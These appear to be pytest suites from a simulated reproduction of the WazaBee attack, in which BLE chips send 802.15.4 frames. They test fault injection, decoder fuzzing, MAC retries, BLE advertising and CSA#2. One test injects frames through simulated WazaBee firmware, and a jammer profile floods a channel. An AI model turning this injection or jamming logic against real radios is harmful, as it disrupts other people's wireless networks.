        assert _count(events, FAULT_INJECTED, kind="delivery_drop") == suppressed

    @pytest.mark.parametrize("profile", ["dropout", "flaky-rx"])
    def test_decode_ledger_balances(self, profile):
        cell = _run(profile)
        events = cell.trace_events
        captures = _count(events, RX_CAPTURE)
        decode_ok = _count(events, RX_DECODE, outcome="ok")
        decode_failed = _count(events, RX_DECODE) - decode_ok
        assert captures == decode_ok + decode_failed
        # Every successful decode gets exactly one FCS verdict.
        assert decode_ok == _count(events, RX_FCS)

    @pytest.mark.parametrize("profile", ["dropout", "flaky-rx"])
    def test_outcome_tallies_match_trace(self, profile):
        """The cell's (valid, corrupted, lost) equals the event ledger."""
        cell = _run(profile)
        events = cell.trace_events
        assert cell.valid == _count(events, RX_FCS, ok=True)
        assert cell.corrupted == _count(events, RX_FCS, ok=False)
        assert cell.lost == cell.total - cell.valid - cell.corrupted
        # And the trace agrees with the cell's deterministic counter block.
        assert cell.metrics.get("rx.frames.valid_delivered", 0) == cell.valid
        assert (
            cell.metrics.get("rx.frames.corrupt_delivered", 0)
            == cell.corrupted
        )

    def test_trace_counts_agree_with_metrics_counters(self):
        cell = _run("flaky-rx")
        events = cell.trace_events
        assert cell.metrics["rx.captures"] == _count(events, RX_CAPTURE)
        assert cell.metrics["medium.deliveries.delivered"] == _count(
            events, MEDIUM_DELIVERY, status="delivered"
        )
        assert cell.metrics["rx.decode.ok"] == _count(
            events, RX_DECODE, outcome="ok"
        )

    def test_harsh_profile_still_internally_consistent(self):
        """Bursts and duplication break the simple equalities but never
        the resolution invariants."""
        cell = _run("harsh")
        events = cell.trace_events
        scheduled = _count(events, MEDIUM_DELIVERY, status="scheduled")
        delivered = _count(events, MEDIUM_DELIVERY, status="delivered")
        skipped = _count(events, MEDIUM_DELIVERY, status="skipped")
        assert scheduled == delivered + skipped
        decode_total = _count(events, RX_DECODE)
        assert _count(events, RX_CAPTURE) == decode_total
        # Duplication can only inflate the event counts above the tallies.
        assert cell.valid <= _count(events, RX_FCS, ok=True)
        assert cell.total == cell.valid + cell.corrupted + cell.lost


class TestDeterminism:
    def test_same_seed_same_event_stream(self):
        """TraceRecorder ordering is deterministic under a fixed seed."""
        first = _run("flaky-rx", frames=25)
        second = _run("flaky-rx", frames=25)
        assert first.trace_events == second.trace_events
        assert first.metrics == second.metrics
        assert (first.valid, first.corrupted, first.lost) == (
            second.valid,
            second.corrupted,
            second.lost,
        )

    def test_different_seed_different_stream(self):
        # Sanity check that the determinism test has discriminating power.
        base = _run("flaky-rx", frames=25, seed=3)
        other = _run("flaky-rx", frames=25, seed=4)
        assert base.trace_events != other.trace_events

    def test_untraced_cell_collects_no_events(self):
        cell = run_table3_cell(
            "nRF52832", "rx", channel=17, frames=10, seed=3
        )
        assert cell.trace_events == []
        # The metrics block is populated regardless of tracing.
        assert cell.metrics["rx.captures"] > 0
