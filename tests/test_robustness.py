"""Fuzz/robustness tests: every decode path must fail *cleanly* on garbage.

A decoder facing attacker-controlled or corrupted input may return ``None``
or raise ``ValueError`` (or a documented subclass) — never ``IndexError``,
``KeyError``, struct errors, or silent nonsense.
"""

import numpy as np
import pytest
from hypothesis import given, settings, strategies as st

from repro.ble.packets import AdStructure, AuxPtr, ExtendedAdvertisingPdu, parse_pdu_bits
from repro.core.rx import decode_payload_bits
from repro.dot15d4.frames import MacFrame
from repro.dot15d4.security import SecurityContext, SecurityError
from repro.phy.ieee802154 import Ppdu
from repro.sixlowpan.fragmentation import Reassembler
from repro.sixlowpan.iphc import decompress_datagram
from repro.sixlowpan.ipv6 import Ipv6Header, UdpDatagram
from repro.zigbee.xbee import parse_app_payload

binary = st.binary(max_size=200)
bits = st.lists(st.integers(0, 1), max_size=2048).map(
    lambda xs: np.array(xs, dtype=np.uint8)
)


class TestFrameDecoders:
    @given(binary)
    def test_mac_frame_parse(self, data):
        try:
            MacFrame.parse(data)
        except ValueError:
            pass

    @given(binary)
    def test_mac_frame_parse_unchecked(self, data):
        try:
            MacFrame.parse(data, check_fcs=False)
        except ValueError:
            pass

    @given(st.lists(st.integers(0, 15), max_size=80))
    def test_ppdu_parse_symbols(self, symbols):
        result = Ppdu.parse_symbols(symbols)
        assert result is None or isinstance(result, Ppdu)

    @given(bits)
    def test_wazabee_decode_payload_bits(self, data):
        result = decode_payload_bits(data)
        assert result is None or result.psdu is not None


class TestBleDecoders:
    @given(bits)
    def test_parse_pdu_bits(self, data):
        try:
            parse_pdu_bits(data, channel=8)
        except ValueError:
            pass

    @given(binary)
    def test_extended_adv_from_pdu(self, data):
        try:
            ExtendedAdvertisingPdu.from_pdu(data)
        except ValueError:
            pass

    @given(binary)
    def test_ad_structures(self, data):
        try:
            AdStructure.parse_all(data)
        except ValueError:
            pass

    @given(st.binary(min_size=3, max_size=3))
    def test_aux_ptr(self, data):
        ptr = AuxPtr.from_bytes(data)
        assert 0 <= ptr.channel <= 63


class TestApplicationDecoders:
    @given(binary)
    def test_xbee_payload(self, data):
        parse_app_payload(data)  # returns dataclass or None, never raises

    @given(binary)
    def test_sixlowpan_decompress(self, data):
        try:
            decompress_datagram(data)
        except ValueError:
            pass  # and nothing else — truncation must be a clean error

    @given(binary)
    def test_udp_parse(self, data):
        try:
            UdpDatagram.from_bytes(data)
        except ValueError:
            pass

    @settings(max_examples=200)
    @given(st.integers(0, 0xFFFF), binary)
    def test_reassembler_never_crashes(self, sender, payload):
        reassembler = Reassembler()
        reassembler.accept(sender, payload)


class TestSecurityDecoder:
    @given(binary, st.integers(0, 255))
    def test_unprotect_garbage(self, payload, seq):
        from repro.dot15d4.frames import Address, FrameType

        context = SecurityContext(key=bytes(16))
        frame = MacFrame(
            frame_type=FrameType.DATA,
            sequence_number=seq,
            source=Address(pan_id=1, address=2),
            destination=Address(pan_id=1, address=3),
            payload=payload,
            security_enabled=True,
        )
        with pytest.raises(SecurityError):
            context.unprotect(frame)
