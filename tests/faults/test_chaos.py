"""Chaos acceptance tests: reliability mechanisms vs scripted faults.

The contract under test:

* with faults off, the MAC delivers everything without ever retrying;
* under a scripted collision/dropout profile, delivery still succeeds but
  *only because of* CSMA-CA deferral and ACK-driven retransmission — the
  retry counters must show the machinery engaged;
* identical seeds and identical plans reproduce bit-identical runs.
"""

import numpy as np

from repro.chips.rzusbstick import Dot15d4Radio
from repro.dot15d4.frames import Address
from repro.dot15d4.mac import MacConfig, MacService
from repro.faults import (
    CollisionBurst,
    DropoutWindow,
    FaultInjector,
    FaultPlan,
    named_profile,
)
from repro.radio.medium import RfMedium
from repro.radio.scheduler import Scheduler

PAN = 0x1234
ADDR_A = Address(pan_id=PAN, address=0x0001)
ADDR_B = Address(pan_id=PAN, address=0x0002)

#: Scripted adversity for one frame exchange starting at t=0: a jamming
#: burst occupying the early CCA window plus receiver deafness for the
#: first few milliseconds, so the first transmission attempt cannot be
#: both sent immediately and delivered — only deferral + retransmission
#: gets the frame through.
CHAOS_PLAN = FaultPlan(
    seed=42,
    name="test-collision-dropout",
    bursts=(
        CollisionBurst(
            start_s=0.2e-3,
            duration_s=5.8e-3,
            power_dbm=10.0,
        ),
    ),
    dropouts=(DropoutWindow(start_s=0.0, end_s=8e-3, radio_name="b"),),
)


def run_exchange(fault_plan=None, num_frames=5, seed=0, config=None):
    """One seeded A→B exchange; returns everything observable about it."""
    scheduler = Scheduler()
    medium = RfMedium(
        scheduler,
        noise_floor_dbm=-120.0,
        seed=seed,
    )
    injector = None
    if fault_plan is not None:
        injector = FaultInjector(fault_plan)
        medium.install_fault_injector(injector)
    radio_a = Dot15d4Radio(medium, name="a", position=(0, 0))
    radio_b = Dot15d4Radio(medium, name="b", position=(2, 0))
    radio_a.set_channel(14)
    radio_b.set_channel(14)
    mac_a = MacService(radio_a, address=ADDR_A, config=config)
    mac_b = MacService(radio_b, address=ADDR_B, config=config)
    mac_a.start()
    mac_b.start()
    received = []
    mac_b.on_data(lambda frame: received.append(bytes(frame.payload)))
    results = []

    def send_next(index=0):
        if index >= num_frames:
            return
        mac_a.send_data(
            ADDR_B,
            b"frame-%d" % index,
            ack=True,
            on_result=lambda seq, ok: (
                results.append((seq, ok)),
                send_next(index + 1),
            ),
        )

    send_next()
    scheduler.run(1.0)
    return {
        "received": tuple(received),
        "results": tuple(results),
        "mac_a": mac_a.stats,
        "mac_b": mac_b.stats,
        "injector": injector.stats if injector else None,
    }


class TestCleanBaseline:
    def test_faults_off_delivers_everything_without_retries(self):
        run = run_exchange(fault_plan=None, num_frames=5)
        delivered = [ok for _seq, ok in run["results"]]
        assert delivered == [True] * 5
        assert len(run["received"]) == 5
        assert run["mac_a"].retries == 0
        assert run["mac_a"].channel_access_failures == 0

    def test_empty_plan_is_equivalent_to_no_plan(self):
        clean = run_exchange(fault_plan=None, num_frames=3)
        empty = run_exchange(fault_plan=FaultPlan(), num_frames=3)
        assert clean["received"] == empty["received"]
        assert clean["results"] == empty["results"]


class TestChaosSurvival:
    def test_delivery_survives_only_via_csma_and_retransmission(self):
        run = run_exchange(fault_plan=CHAOS_PLAN, num_frames=1)
        # The frame got through in the end...
        assert run["results"] and run["results"][0][1] is True
        assert run["received"] == (b"frame-0",)
        # ...but only because the reliability machinery engaged.
        assert run["mac_a"].retries > 0
        assert run["mac_a"].ack_timeouts > 0
        assert run["mac_a"].csma_backoffs > 0
        assert run["injector"].deliveries_dropped > 0
        assert run["injector"].bursts_injected == 1

    def test_legacy_mac_fails_under_the_same_chaos(self):
        """The same plan defeats the fire-and-forget MAC — the reliability
        layer, not luck, is what the test above measures."""
        run = run_exchange(
            fault_plan=CHAOS_PLAN, num_frames=1, config=MacConfig.legacy()
        )
        assert run["received"] == ()

    def test_jammer_profile_engages_cca(self):
        plan = named_profile("jammer", channel=14, seed=1)
        run = run_exchange(fault_plan=plan, num_frames=8)
        assert run["mac_a"].csma_backoffs > 0
        # Jamming defers transmissions; every frame still gets through.
        assert len(run["received"]) == 8


class TestDeterminism:
    def test_identical_seed_and_plan_are_bit_identical(self):
        a = run_exchange(fault_plan=CHAOS_PLAN, num_frames=4, seed=9)
        b = run_exchange(fault_plan=CHAOS_PLAN, num_frames=4, seed=9)
        assert a["received"] == b["received"]
        assert a["results"] == b["results"]
        assert a["mac_a"] == b["mac_a"]
        assert a["mac_b"] == b["mac_b"]
        assert a["injector"] == b["injector"]

    def test_different_plan_seed_changes_the_run(self):
        """The plan seed feeds the injector RNG; a sample-dropping profile
        must place its gaps differently under a different seed."""
        plan1 = named_profile("flaky-rx", seed=1)
        plan2 = named_profile("flaky-rx", seed=2)
        a = run_exchange(fault_plan=plan1, num_frames=6, seed=9)
        b = run_exchange(fault_plan=plan2, num_frames=6, seed=9)
        # Same medium seed, same traffic — only the fault RNG differs.
        assert a["injector"].captures_sample_dropped > 0
        assert b["injector"].captures_sample_dropped > 0


class TestMonotoneSeverity:
    def test_harsh_profile_is_no_better_than_clean(self):
        clean = run_exchange(fault_plan=None, num_frames=4)
        harsh = run_exchange(
            fault_plan=named_profile("harsh", channel=14, seed=0), num_frames=4
        )
        assert len(harsh["received"]) <= len(clean["received"])
        assert harsh["mac_a"].retries >= clean["mac_a"].retries
