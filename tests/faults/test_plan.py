"""Tests for fault plans and the named chaos profile catalogue."""

import dataclasses

import pytest

from repro.dot15d4.channels import channel_frequency_hz
from repro.faults import (
    CollisionBurst,
    DropoutWindow,
    FaultPlan,
    named_profile,
    profile_names,
)


class TestFaultPlan:
    def test_default_plan_is_clean(self):
        assert FaultPlan().is_clean()

    def test_any_fault_makes_plan_dirty(self):
        plan = FaultPlan(dropouts=(DropoutWindow(0.0, 1.0),))
        assert not plan.is_clean()
        assert not FaultPlan(cfo_drift_hz_per_s=1.0).is_clean()

    def test_plan_is_frozen(self):
        plan = FaultPlan()
        with pytest.raises(dataclasses.FrozenInstanceError):
            plan.seed = 5


class TestDropoutWindow:
    def test_covers_inside_half_open_interval(self):
        window = DropoutWindow(start_s=1.0, end_s=2.0)
        assert window.covers(1.0, "any")
        assert window.covers(1.5, "any")
        assert not window.covers(2.0, "any")
        assert not window.covers(0.9, "any")

    def test_named_radio_scoping(self):
        window = DropoutWindow(start_s=0.0, end_s=1.0, radio_name="rx1")
        assert window.covers(0.5, "rx1")
        assert not window.covers(0.5, "rx2")


class TestProfiles:
    def test_catalogue_names(self):
        names = profile_names()
        assert names == tuple(sorted(names))
        for expected in ("clean", "dropout", "drifting", "flaky-rx", "harsh", "jammer"):
            assert expected in names

    def test_every_profile_builds(self):
        for name in profile_names():
            plan = named_profile(name, channel=20, seed=3)
            assert plan.name == name
            assert plan.seed == 3

    def test_clean_profile_is_clean(self):
        assert named_profile("clean").is_clean()

    def test_harsh_profile_is_not_clean(self):
        assert not named_profile("harsh").is_clean()

    def test_jammer_targets_requested_channel(self):
        plan = named_profile("jammer", channel=22)
        assert plan.bursts
        assert plan.bursts[0].center_hz == channel_frequency_hz(22)

    def test_unknown_profile_rejected(self):
        with pytest.raises(ValueError, match="unknown chaos profile"):
            named_profile("nope")

    def test_burst_repetition_is_bounded(self):
        burst = CollisionBurst(start_s=0.0, duration_s=1e-3, period_s=1e-2, count=7)
        assert burst.count == 7
