"""Unit tests for the fault injector at the medium boundary."""

import numpy as np
import pytest

from repro.chips.rzusbstick import Dot15d4Radio
from repro.dot15d4.frames import Address
from repro.dot15d4.mac import MacConfig, MacService
from repro.faults import (
    CaptureTruncation,
    CfoStep,
    CollisionBurst,
    DeliveryDuplication,
    DropoutWindow,
    FaultInjector,
    FaultPlan,
    SampleDrops,
)

PAN = 0x1234
ADDR_A = Address(pan_id=PAN, address=0x0001)
ADDR_B = Address(pan_id=PAN, address=0x0002)


def make_pair(medium, config=None):
    radio_a = Dot15d4Radio(
        medium, name="a", position=(0, 0), rng=np.random.default_rng(1)
    )
    radio_b = Dot15d4Radio(
        medium, name="b", position=(2, 0), rng=np.random.default_rng(2)
    )
    mac_a = MacService(radio_a, address=ADDR_A, config=config)
    mac_b = MacService(radio_b, address=ADDR_B, config=config)
    mac_a.start()
    mac_b.start()
    return mac_a, mac_b


class TestInstallation:
    def test_double_install_rejected(self, quiet_medium):
        injector = FaultInjector(FaultPlan())
        quiet_medium.install_fault_injector(injector)
        with pytest.raises(RuntimeError, match="already installed"):
            injector.install(quiet_medium)

    def test_bursts_enter_the_medium(self, quiet_medium, scheduler):
        plan = FaultPlan(
            bursts=(CollisionBurst(start_s=1e-3, duration_s=2e-3),)
        )
        injector = FaultInjector(plan)
        quiet_medium.install_fault_injector(injector)
        seen_busy = []
        radio = Dot15d4Radio(
            quiet_medium, name="probe", rng=np.random.default_rng(3)
        )
        radio.set_channel(14)
        scheduler.schedule_at(
            2e-3, lambda: seen_busy.append(quiet_medium.channel_busy(radio.transceiver))
        )
        scheduler.run(5e-3)
        assert injector.stats.bursts_injected == 1
        assert seen_busy == [True]

    def test_periodic_bursts_repeat(self, quiet_medium, scheduler):
        plan = FaultPlan(
            bursts=(
                CollisionBurst(
                    start_s=0.0, duration_s=0.5e-3, period_s=2e-3, count=4
                ),
            )
        )
        injector = FaultInjector(plan)
        quiet_medium.install_fault_injector(injector)
        scheduler.run(0.02)
        assert injector.stats.bursts_injected == 4


class TestDeliveryFaults:
    def test_dropout_window_loses_frames(self, quiet_medium, scheduler):
        injector = FaultInjector(
            FaultPlan(dropouts=(DropoutWindow(start_s=0.0, end_s=1.0),))
        )
        quiet_medium.install_fault_injector(injector)
        mac_a, mac_b = make_pair(quiet_medium, config=MacConfig.legacy())
        got = []
        mac_b.on_data(got.append)
        mac_a.send_data(ADDR_B, b"lost", ack=False)
        scheduler.run(0.01)
        assert got == []
        assert injector.stats.deliveries_dropped >= 1

    def test_dropout_scoped_to_named_radio(self, quiet_medium, scheduler):
        injector = FaultInjector(
            FaultPlan(
                dropouts=(DropoutWindow(start_s=0.0, end_s=1.0, radio_name="c"),)
            )
        )
        quiet_medium.install_fault_injector(injector)
        mac_a, mac_b = make_pair(quiet_medium, config=MacConfig.legacy())
        got = []
        mac_b.on_data(got.append)
        mac_a.send_data(ADDR_B, b"fine", ack=False)
        scheduler.run(0.01)
        assert len(got) == 1

    def test_duplication_exercises_mac_duplicate_rejection(
        self, quiet_medium, scheduler
    ):
        injector = FaultInjector(
            FaultPlan(duplication=DeliveryDuplication(every_nth=1))
        )
        quiet_medium.install_fault_injector(injector)
        mac_a, mac_b = make_pair(quiet_medium, config=MacConfig.legacy())
        got = []
        mac_b.on_data(got.append)
        mac_a.send_data(ADDR_B, b"twice", ack=False)
        scheduler.run(0.01)
        assert len(got) == 1
        assert mac_b.stats.duplicates >= 1
        assert injector.stats.deliveries_duplicated >= 1


class TestCaptureFaults:
    def test_truncation_destroys_reception(self, quiet_medium, scheduler):
        injector = FaultInjector(
            FaultPlan(
                truncation=CaptureTruncation(every_nth=1, keep_fraction=0.05)
            )
        )
        quiet_medium.install_fault_injector(injector)
        mac_a, mac_b = make_pair(quiet_medium, config=MacConfig.legacy())
        got = []
        mac_b.on_data(got.append)
        mac_a.send_data(ADDR_B, b"chopped", ack=False)
        scheduler.run(0.01)
        assert got == []
        assert injector.stats.captures_truncated >= 1

    def test_sample_drops_counted(self, quiet_medium, scheduler):
        injector = FaultInjector(
            FaultPlan(
                seed=11,
                sample_drops=SampleDrops(every_nth=1, num_gaps=2, gap_samples=32),
            )
        )
        quiet_medium.install_fault_injector(injector)
        mac_a, mac_b = make_pair(quiet_medium, config=MacConfig.legacy())
        mac_a.send_data(ADDR_B, b"gappy", ack=False)
        scheduler.run(0.01)
        assert injector.stats.captures_sample_dropped >= 1

    def test_large_cfo_step_breaks_demodulation(self, quiet_medium, scheduler):
        injector = FaultInjector(
            FaultPlan(cfo_steps=(CfoStep(at_s=0.0, offset_hz=800e3),))
        )
        quiet_medium.install_fault_injector(injector)
        mac_a, mac_b = make_pair(quiet_medium, config=MacConfig.legacy())
        got = []
        mac_b.on_data(got.append)
        mac_a.send_data(ADDR_B, b"detuned", ack=False)
        scheduler.run(0.01)
        assert got == []
        assert injector.stats.captures_cfo_shifted >= 1

    def test_cfo_lookup_uses_latest_step(self):
        injector = FaultInjector(
            FaultPlan(
                cfo_steps=(
                    CfoStep(at_s=0.0, offset_hz=10.0),
                    CfoStep(at_s=1.0, offset_hz=20.0),
                ),
                cfo_drift_hz_per_s=1.0,
            )
        )
        assert injector._cfo_at(0.5) == pytest.approx(10.5)
        assert injector._cfo_at(2.0) == pytest.approx(22.0)
