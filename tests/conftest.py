"""Shared fixtures for the WazaBee reproduction test suite."""

from __future__ import annotations

import os

import numpy as np
import pytest
from hypothesis import settings

from repro.radio.medium import RfMedium
from repro.radio.scheduler import Scheduler

# A fixed Hypothesis profile for CI: no deadline flakes on loaded runners,
# derandomised so every run explores the same examples.
settings.register_profile(
    "ci", deadline=None, max_examples=50, derandomize=True
)
if os.environ.get("HYPOTHESIS_PROFILE"):
    settings.load_profile(os.environ["HYPOTHESIS_PROFILE"])


@pytest.fixture()
def rng() -> np.random.Generator:
    return np.random.default_rng(1234)


@pytest.fixture()
def scheduler() -> Scheduler:
    return Scheduler()


@pytest.fixture()
def quiet_medium(scheduler: Scheduler) -> RfMedium:
    """A medium with a very low noise floor and no interference."""
    return RfMedium(
        scheduler,
        noise_floor_dbm=-120.0,
        rng=np.random.default_rng(99),
    )


@pytest.fixture()
def medium(scheduler: Scheduler) -> RfMedium:
    """The default medium (realistic noise floor, no interferers)."""
    return RfMedium(scheduler, rng=np.random.default_rng(7))
