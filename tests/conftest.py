"""Shared fixtures for the WazaBee reproduction test suite."""

from __future__ import annotations

import numpy as np
import pytest

from repro.radio.medium import RfMedium
from repro.radio.scheduler import Scheduler


@pytest.fixture()
def rng() -> np.random.Generator:
    return np.random.default_rng(1234)


@pytest.fixture()
def scheduler() -> Scheduler:
    return Scheduler()


@pytest.fixture()
def quiet_medium(scheduler: Scheduler) -> RfMedium:
    """A medium with a very low noise floor and no interference."""
    return RfMedium(
        scheduler,
        noise_floor_dbm=-120.0,
        rng=np.random.default_rng(99),
    )


@pytest.fixture()
def medium(scheduler: Scheduler) -> RfMedium:
    """The default medium (realistic noise floor, no interferers)."""
    return RfMedium(scheduler, rng=np.random.default_rng(7))
