"""Tests for the BLE advertiser/scanner link layer."""

import numpy as np
import pytest

from repro.ble.link_layer import Advertiser, Scanner
from repro.ble.packets import PduType
from repro.chips import Nrf52832

ADDR = bytes.fromhex("c0ffee123456")


@pytest.fixture()
def devices(quiet_medium):
    advertiser_chip = Nrf52832(
        quiet_medium, name="adv", position=(0, 0), rng=np.random.default_rng(1)
    )
    scanner_chip = Nrf52832(
        quiet_medium, name="scan", position=(2, 0), rng=np.random.default_rng(2)
    )
    return advertiser_chip, scanner_chip, quiet_medium.scheduler


class TestAdvertising:
    def test_scanner_receives_advertisements(self, devices):
        adv_chip, scan_chip, sched = devices
        scanner = Scanner(scan_chip, channel=37)
        scanner.start()
        advertiser = Advertiser(adv_chip, ADDR, adv_data=b"\x02\x01\x06")
        advertiser.start()
        sched.run(0.5)
        assert advertiser.events >= 4
        assert len(scanner.advertisements) >= 4
        first = scanner.advertisements[0]
        assert first.advertiser_address == ADDR
        assert first.adv_data == b"\x02\x01\x06"
        assert first.crc_ok
        assert first.pdu_type == PduType.ADV_NONCONN_IND.value

    def test_handler_callback(self, devices):
        adv_chip, scan_chip, sched = devices
        seen = []
        scanner = Scanner(scan_chip, channel=38)
        scanner.start(seen.append)
        Advertiser(adv_chip, ADDR).start()
        sched.run(0.3)
        assert seen and seen[0].channel == 38

    def test_stop_advertising(self, devices):
        adv_chip, scan_chip, sched = devices
        advertiser = Advertiser(adv_chip, ADDR)
        advertiser.start()
        sched.run(0.25)
        advertiser.stop()
        events = advertiser.events
        sched.run(0.5)
        assert advertiser.events == events

    def test_stop_scanning(self, devices):
        adv_chip, scan_chip, sched = devices
        scanner = Scanner(scan_chip, channel=37)
        scanner.start()
        scanner.stop()
        Advertiser(adv_chip, ADDR).start()
        sched.run(0.3)
        assert scanner.advertisements == []

    def test_adv_delay_jitter(self, devices):
        """Consecutive advertising events are not perfectly periodic."""
        adv_chip, scan_chip, sched = devices
        scanner = Scanner(scan_chip, channel=37)
        scanner.start()
        Advertiser(adv_chip, ADDR, interval_s=0.05).start()
        sched.run(1.0)
        times = [a.time for a in scanner.advertisements]
        gaps = np.diff(times)
        assert gaps.std() > 1e-4

    def test_interval_validation(self, devices):
        adv_chip, _, _ = devices
        with pytest.raises(ValueError):
            Advertiser(adv_chip, ADDR, interval_s=0.001)

    def test_scanner_channel_validation(self, devices):
        _, scan_chip, _ = devices
        with pytest.raises(ValueError):
            Scanner(scan_chip, channel=8)

    def test_wazabee_emission_invisible_to_scanner(self, devices, quiet_medium):
        """A WazaBee 802.15.4 injection never shows up as a BLE
        advertisement — different channel, different framing."""
        from repro.core.firmware import WazaBeeFirmware
        from repro.dot15d4.frames import Address, build_data

        adv_chip, scan_chip, sched = devices
        scanner = Scanner(scan_chip, channel=37)
        scanner.start()
        firmware = WazaBeeFirmware(adv_chip, sched)
        frame = build_data(
            Address(pan_id=1, address=1), Address(pan_id=1, address=2), b"x",
            sequence_number=1,
        )
        firmware.send_frame(frame, channel=14)
        sched.run(0.05)
        assert scanner.advertisements == []
