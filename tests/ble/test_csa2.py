"""Tests for Channel Selection Algorithm #2."""

import pytest
from collections import Counter

from repro.ble.csa2 import Csa2Session, channel_identifier, csa2_select

ADV_AA = 0x8E89BED6


class TestChannelIdentifier:
    def test_advertising_aa(self):
        # 0x8E89 ^ 0xBED6 = 0x305F, a value quoted in the spec's sample data.
        assert channel_identifier(ADV_AA) == 0x305F

    def test_validation(self):
        with pytest.raises(ValueError):
            channel_identifier(1 << 32)


class TestSelect:
    def test_deterministic(self):
        assert csa2_select(5, ADV_AA, range(37)) == csa2_select(5, ADV_AA, range(37))

    def test_output_in_channel_map(self):
        used = [1, 5, 9, 20, 36]
        for counter in range(200):
            assert csa2_select(counter, ADV_AA, used) in used

    def test_full_map_uniform(self):
        counts = Counter(
            csa2_select(c, ADV_AA, range(37)) for c in range(65536)
        )
        values = [counts[ch] for ch in range(37)]
        # The algorithm is exactly balanced over the full counter space.
        assert max(values) - min(values) <= 2

    def test_remapping_used_for_missing_channels(self):
        """When the unmapped channel is disabled, remap into the used list."""
        used = [0, 1, 2]
        seen = {csa2_select(c, ADV_AA, used) for c in range(100)}
        assert seen <= set(used)
        assert len(seen) > 1

    def test_different_aa_different_sequence(self):
        seq_a = [csa2_select(c, ADV_AA, range(37)) for c in range(32)]
        seq_b = [csa2_select(c, 0x12345678, range(37)) for c in range(32)]
        assert seq_a != seq_b

    def test_empty_map_rejected(self):
        with pytest.raises(ValueError):
            csa2_select(0, ADV_AA, [])

    def test_invalid_channel_rejected(self):
        with pytest.raises(ValueError):
            csa2_select(0, ADV_AA, [40])

    def test_counter_wraps_16_bits(self):
        assert csa2_select(0x10000, ADV_AA, range(37)) == csa2_select(
            0, ADV_AA, range(37)
        )


class TestSession:
    def test_counter_advances(self):
        session = Csa2Session(ADV_AA)
        events = [session.next_channel() for _ in range(5)]
        assert [e[0] for e in events] == [0, 1, 2, 3, 4]

    def test_matches_direct_selection(self):
        session = Csa2Session(ADV_AA)
        for expected_counter in range(10):
            counter, channel = session.next_channel()
            assert channel == csa2_select(counter, ADV_AA, range(37))

    def test_counter_wraparound(self):
        session = Csa2Session(ADV_AA, initial_counter=0xFFFF)
        counter, _ = session.next_channel()
        assert counter == 0xFFFF
        counter, _ = session.next_channel()
        assert counter == 0
