"""Tests for BLE packet formats and on-air assembly."""

import numpy as np
import pytest
from hypothesis import given, strategies as st

from repro.ble.packets import (
    ADVERTISING_ACCESS_ADDRESS,
    AdStructure,
    Adi,
    AdvNonconnInd,
    AuxPtr,
    ExtendedAdvertisingPdu,
    PduType,
    PhyMode,
    access_address_bits,
    assemble_on_air_bits,
    manufacturer_data,
    parse_pdu_bits,
    preamble_bits,
)


class TestPhyMode:
    def test_rates(self):
        assert PhyMode.LE_1M.symbol_rate == 1e6
        assert PhyMode.LE_2M.symbol_rate == 2e6

    def test_preamble_lengths(self):
        assert PhyMode.LE_1M.preamble_bytes == 1
        assert PhyMode.LE_2M.preamble_bytes == 2


class TestPreambleAndAa:
    def test_preamble_alternates(self):
        bits = preamble_bits(ADVERTISING_ACCESS_ADDRESS, PhyMode.LE_1M)
        assert bits.size == 8
        assert np.array_equal(bits[::2], bits[::2])
        assert set(np.unique(bits[::2])) != set(np.unique(bits[1::2]))

    def test_preamble_first_bit_matches_aa(self):
        for aa in (0x8E89BED6, 0x12345679):
            assert preamble_bits(aa, PhyMode.LE_1M)[0] == aa & 1

    def test_le2m_preamble_is_16_bits(self):
        assert preamble_bits(0, PhyMode.LE_2M).size == 16

    def test_access_address_lsb_first(self):
        bits = access_address_bits(0x00000001)
        assert bits[0] == 1
        assert bits[1:].sum() == 0


class TestAdStructures:
    def test_roundtrip(self):
        ad = AdStructure(ad_type=0x09, payload=b"name")
        parsed = AdStructure.parse_all(ad.to_bytes())
        assert parsed == [ad]

    def test_multiple(self):
        data = AdStructure(1, b"\x06").to_bytes() + AdStructure(9, b"x").to_bytes()
        parsed = AdStructure.parse_all(data)
        assert [a.ad_type for a in parsed] == [1, 9]

    def test_truncated_rejected(self):
        with pytest.raises(ValueError):
            AdStructure.parse_all(b"\x05\x09ab")

    def test_zero_length_terminates(self):
        assert AdStructure.parse_all(b"\x00\xff\xff") == []

    def test_manufacturer_data(self):
        ad = manufacturer_data(0x0059, b"zz")
        assert ad.ad_type == 0xFF
        assert ad.payload == b"\x59\x00zz"

    def test_manufacturer_validation(self):
        with pytest.raises(ValueError):
            manufacturer_data(1 << 16, b"")


class TestLegacyAdv:
    def test_pdu_layout(self):
        pdu = AdvNonconnInd(b"\x01\x02\x03\x04\x05\x06", b"hi").to_pdu()
        assert pdu[0] == PduType.ADV_NONCONN_IND.value
        assert pdu[1] == 8
        assert pdu[2:8] == b"\x01\x02\x03\x04\x05\x06"

    def test_validation(self):
        with pytest.raises(ValueError):
            AdvNonconnInd(b"\x00" * 5).to_pdu()
        with pytest.raises(ValueError):
            AdvNonconnInd(b"\x00" * 6, b"x" * 32).to_pdu()


class TestAuxPtrAdi:
    def test_aux_ptr_roundtrip(self):
        ptr = AuxPtr(channel=8, phy=PhyMode.LE_2M, offset_usec=1200)
        back = AuxPtr.from_bytes(ptr.to_bytes())
        assert back.channel == 8
        assert back.phy is PhyMode.LE_2M
        assert back.offset_usec == 1200

    def test_aux_ptr_offset_quantised_to_units(self):
        ptr = AuxPtr(channel=1, phy=PhyMode.LE_1M, offset_usec=450)
        assert AuxPtr.from_bytes(ptr.to_bytes()).offset_usec == 300

    def test_aux_ptr_channel_validation(self):
        with pytest.raises(ValueError):
            AuxPtr(channel=37, phy=PhyMode.LE_2M).to_bytes()

    def test_adi_roundtrip(self):
        adi = Adi(did=0xABC, sid=0x5)
        assert Adi.from_bytes(adi.to_bytes()) == adi

    def test_adi_validation(self):
        with pytest.raises(ValueError):
            Adi(did=1 << 12).to_bytes()


class TestExtendedAdvertising:
    def test_aux_adv_ind_roundtrip(self):
        pdu = ExtendedAdvertisingPdu(
            advertiser_address=b"\xaa\xbb\xcc\xdd\xee\xff",
            adi=Adi(did=1, sid=2),
            adv_data=b"\x03\xff\x59\x00",
        )
        parsed = ExtendedAdvertisingPdu.from_pdu(pdu.to_pdu())
        assert parsed.advertiser_address == b"\xaa\xbb\xcc\xdd\xee\xff"
        assert parsed.adi == Adi(did=1, sid=2)
        assert parsed.adv_data == b"\x03\xff\x59\x00"

    def test_adv_ext_ind_roundtrip(self):
        pdu = ExtendedAdvertisingPdu(
            adi=Adi(did=9, sid=1),
            aux_ptr=AuxPtr(channel=8, phy=PhyMode.LE_2M, offset_usec=1200),
        )
